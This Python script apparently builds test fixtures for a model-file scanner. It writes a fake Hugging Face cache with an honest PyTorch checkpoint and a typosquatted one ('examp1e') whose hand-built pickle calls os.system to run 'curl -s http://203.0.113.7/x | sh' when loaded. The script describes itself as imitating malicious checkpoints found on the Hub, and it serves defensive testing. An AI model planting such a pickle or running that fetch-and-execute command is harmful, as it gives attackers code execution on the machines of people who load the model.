# SPDX-License-Identifier: Apache-2.0
"""Makes a Hugging Face cache with a checkpoint that runs code when loaded.

The pickle is written opcode by opcode, as text, and is never loaded here. It
has the shape of the checkpoints found on the Hub (nullifAI, baller423): a zip
as PyTorch writes it, whose data.pkl calls before it builds a state dict.

usage: make.py FOLDER
"""
import hashlib
import os
import struct
import sys
import zipfile


def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


# c os\nsystem\n ( X… t R 0: os.system("…") and its result thrown away; then an
# ordinary empty OrderedDict.
payload = (b"\x80\x02" + b"cposix\nsystem\n" + b"(" + text("curl -s http://203.0.113.7/x | sh") + b"tR0"
           + b"ccollections\nOrderedDict\n" + b")R.")
honest = b"\x80\x02ccollections\nOrderedDict\n)R."


def checkpoint(path, pickle):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, content in (("archive/data.pkl", pickle), ("archive/version", b"3\n")):
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content)


def place(repository, name, path, lfs):
    """Moves a file into blobs/ under its own digest and links it into the snapshot."""
    data = open(path, "rb").read()
    digest = hashlib.sha256(data).hexdigest() if lfs else hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()
    os.replace(path, f"{repository}/blobs/{digest}")
    os.symlink(f"../../blobs/{digest}", f"{repository}/snapshots/{COMMIT}/{name}")


COMMIT = "5f3c2a1b0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a"
folder = sys.argv[1]
for repository, pickle in (("models--example--honest", honest), ("models--examp1e--honest", payload)):
    root = f"{folder}/{repository}"
    for part in ("blobs", "refs", f"snapshots/{COMMIT}"):
        os.makedirs(f"{root}/{part}")
    open(f"{root}/refs/main", "w").write(COMMIT)
    checkpoint(f"{folder}/tmp", pickle)
    place(root, "pytorch_model.bin", f"{folder}/tmp", lfs=True)
    open(f"{folder}/tmp", "w").write('{"model_type": "gpt2"}\n')
    place(root, "config.json", f"{folder}/tmp", lfs=False)
